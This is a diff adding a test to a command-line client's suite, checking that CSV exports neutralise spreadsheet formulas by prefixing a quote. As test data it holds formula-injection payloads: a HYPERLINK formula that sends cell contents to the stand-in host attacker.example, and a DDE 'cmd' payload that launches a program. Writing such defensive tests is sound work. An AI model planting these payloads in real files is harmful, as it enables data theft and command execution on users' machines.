@@ -149,6 +149,30 @@ describe('command line client commands', () => {
     assert.match(failed.stderr, /the import failed and nothing of the file was kept/);
   });
 
+  it('writes CSV that no spreadsheet runs: a quote before text that would start a formula, numbers kept as numbers', async () => {
+    const source = await json(['sources', 'create', 'Formula Bank']);
+    const dataset = await json(['datasets', 'create', '--source', source.id, '--name', 'Hostile statement', '--column', 'memo:string', '--column', 'fee:money']);
+    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Invoice")';
+    const records = [
+      { externalId: 'F1', timestamp: Date.UTC(2026, 2, 1), amount: '-25.00', currency: 'EUR', description: hostile, reference: '@SUM(A1:A9)', memo: "+1+cmd|' /C calc'!A0", fee: '-0.50' },
+      { externalId: 'F2', timestamp: Date.UTC(2026, 2, 2), amount: '12.00', currency: 'EUR', description: '\t=1+1', reference: '-2+3', memo: 'plain text', fee: '1.25' },
+    ];
+    const ingest = await fetch(`${server.baseUrl}/v1/api/${organization.orgId}/datasets/${dataset.id}/transactions`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${organization.token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ records }),
+    });
+    assert.equal(ingest.status, 200);
+    const expected = [
+      { amount: '-25.00', description: `'${hostile}`, reference: "'@SUM(A1:A9)", memo: "'+1+cmd|' /C calc'!A0", fee: '-0.50' },
+      { amount: '12.00', description: "'\t=1+1", reference: "'-2+3", memo: 'plain text', fee: '1.25' },
+    ];
+    for (const args of [['transactions', '--dataset', dataset.id, '--format', 'csv', '--columns', 'memo,fee'], ['export', '--dataset', dataset.id]]) {
+      const rows = parse(await ok(args), { columns: true }) as Record<string, string>[];
+      assert.deepEqual(rows.map(({ amount, description, reference, memo, fee }) => ({ amount, description, reference, memo, fee })), expected, args[0]);
+    }
+  });
+
   it('shows a progress bar on a terminal while a file is imported, then the report as text', async () => {
     assert.ok(spawnSync('script', ['--version']).status === 0, 'the pseudo-terminal test needs util-linux "script"');
     const source = await json(['sources', 'create', 'Big bank']);
